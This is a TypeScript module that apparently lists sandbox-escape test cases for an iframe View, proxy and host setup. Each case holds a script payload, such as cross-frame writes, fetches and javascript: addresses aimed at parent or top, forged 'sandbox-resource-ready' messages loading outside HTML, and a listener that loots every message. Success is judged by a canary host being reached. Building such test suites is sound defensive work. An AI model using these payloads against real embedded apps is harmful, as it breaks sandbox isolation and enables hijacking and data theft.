import type { Attack } from './attack.ts'
import { anyOf, loots, navigatesTab, page, reachesCanary, type Judge } from './judges.ts'
import { leaving, script } from './view-kit.ts'

const tamper = (
  id: string,
  title: string,
  view: Attack['view'],
  escaped: Judge = anyOf(reachesCanary, navigatesTab),
): Attack => ({
  id: `proxy-${id}`,
  title,
  category: 'proxy',
  view,
  escaped,
})
const takesTitle = page(({ title }) => title === 'taken' && 'the host page was written to')
const ready = (params: string): string =>
  `{ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: ${params} }`
const LISTEN = `addEventListener('message', ({ data, ports }) => { loot(typeof data === 'string' ? data : JSON.stringify(data)); for (const p of ports) p.onmessage = (e) => loot(JSON.stringify(e.data)) });`

/** Attacks on what stands between the View and the host. */
export const proxyAttacks: readonly Attack[] = [
  tamper(
    'top-document',
    'writes into the host page',
    () => script(`attempt(() => { top.document.title = 'taken' })`),
    takesTitle,
  ),
  tamper('parent-document', 'writes into the proxy', ({ canary }) =>
    script(`tried(); attempt(() => { parent.document.body.innerHTML = '<img src="${canary}/x.png">' }); await wait(200)`),
  ),
  tamper('parent-fetch', 'fetches in the name of the proxy', ({ canary }) => script(`await later(parent.fetch('${canary}/x'))`)),
  tamper('top-fetch', 'fetches in the name of the host', ({ canary }) => script(`await later(top.fetch('${canary}/x'))`)),
  tamper('parent-function', 'runs code in the proxy', ({ canary }) =>
    script(`await later(new parent.Function("return fetch('${canary}/x')")())`),
  ),
  tamper('frame-element', 'reaches the proxy through its own frame', ({ canary }) =>
    script(`await later(frameElement.ownerDocument.defaultView.fetch('${canary}/x'))`),
  ),
  tamper('all-frames', 'writes into every frame that it finds', ({ canary }) =>
    script(
      `const all = (w) => [w, ...Array.from({ length: Math.min(9, w.length) }, (_, i) => all(w[i])).flat()]; for (const w of all(top)) if (w !== window) attempt(() => { const i = w.document.createElement('img'); i.src = '${canary}/x.png'; w.document.body.append(i) }); await wait(200)`,
    ),
  ),
  tamper(
    'document-domain',
    'lowers its domain',
    () =>
      script(
        `attempt(() => { document.domain = document.domain.split('.').slice(-2).join('.') }); attempt(() => { top.document.title = 'taken' })`,
      ),
    takesTitle,
  ),
  tamper('open-parent', 'opens an address in the proxy', ({ canary }) => leaving(`open('${canary}/x', '_parent')`)),
  tamper('open-top', 'opens an address in the host', ({ canary }) => leaving(`open('${canary}/x', '_top')`)),
  tamper('anchor-parent', 'a link into the proxy', ({ canary }) =>
    leaving(`document.links[0].click()`, `<a href="${canary}/x" target="_parent">x</a>`),
  ),
  tamper('anchor-top-clicked', 'a link into the host, after a real click', ({ canary }) =>
    script(`await click(); tried()`, `<a href="${canary}/x" target="_top" style="position:fixed;inset:0">x</a>`),
  ),
  tamper('base-target', 'a base that aims at the host', ({ canary }) =>
    leaving(`document.links[0].click()`, `<base target="_top"><a href="${canary}/x">x</a>`),
  ),
  tamper('form-top', 'a form into the host', ({ canary }) =>
    leaving(`document.forms[0].submit()`, `<form target="_top" action="${canary}/x"></form>`),
  ),
  tamper('javascript-parent', 'a javascript: address for the proxy', ({ canary }) =>
    leaving(`attempt(() => { parent.location = "javascript:fetch('${canary}/x')" })`),
  ),
  tamper('javascript-top', 'a javascript: address for the host', ({ canary }) =>
    leaving(`attempt(() => { top.location = "javascript:fetch('${canary}/x')" })`),
  ),
  tamper('renavigate', 'loads the proxy again with an address of its own', ({ canary }) =>
    leaving(`attempt(() => { parent.location = location.ancestorOrigins[0] + '/proxy?view=${encodeURIComponent(canary)}' })`),
  ),
  tamper('resource-url', 'tells the proxy to load another address', ({ canary }) =>
    script(`parent.postMessage(${ready(`{ html: '', url: '${canary}/x.html' }`)}, '*'); tried(); await wait(300)`),
  ),
  tamper('resource-html', 'tells the proxy to load another document', ({ canary }) =>
    script(
      `parent.postMessage(${ready(`{ html: '<img src="${canary}/x.png">', sandbox: 'allow-scripts allow-same-origin' }`)}, '*'); tried(); await wait(300)`,
    ),
  ),
  tamper('resource-text', 'tells the proxy so as text', ({ canary }) =>
    script(
      `const m = ${ready(`{ html: '', url: '${canary}/x.html' }`)}; parent.postMessage(m, '*'); parent.postMessage(JSON.stringify(m), '*'); tried(); await wait(300)`,
    ),
  ),
  tamper('resource-top', 'tells every frame so, from the top down', ({ canary }) =>
    script(
      `const all = (w) => [w, ...Array.from({ length: Math.min(9, w.length) }, (_, i) => all(w[i])).flat()]; for (const w of all(top)) if (w !== window) w.postMessage(${ready(`{ html: '', url: '${canary}/x.html' }`)}, '*'); tried(); await wait(300)`,
    ),
  ),
  tamper(
    'ready-to-host',
    'announces itself to the host as a proxy',
    () =>
      script(
        `${LISTEN} top.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*'); tried(); await wait(300)`,
      ),
    loots,
  ),
  tamper(
    'ready-by-relay',
    'announces itself as a proxy through the proxy',
    () => script(`${LISTEN} send({ method: 'ui/notifications/sandbox-proxy-ready', params: {} }); tried(); await wait(300)`),
    loots,
  ),
  tamper(
    'ready-handshaken',
    'announces itself as a proxy when it is trusted already',
    () =>
      script(
        `await handshake(); ${LISTEN} send({ method: 'ui/notifications/sandbox-proxy-ready', params: {} }); top.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*'); tried(); await wait(300)`,
      ),
    loots,
  ),
  tamper('nested-proxy', 'opens a proxy of its own within itself', ({ canary }) =>
    script(
      `const f = document.createElement('iframe'); f.src = location.ancestorOrigins[0] + '/proxy?view=' + encodeURIComponent('${canary}/x.html'); document.body.append(f); await wait(300); f.contentWindow.postMessage(${ready(`{ html: '<img src="${canary}/y.png">', csp: { resourceDomains: ['${canary}'] } }`)}, '*'); await wait(200)`,
    ),
  ),
]
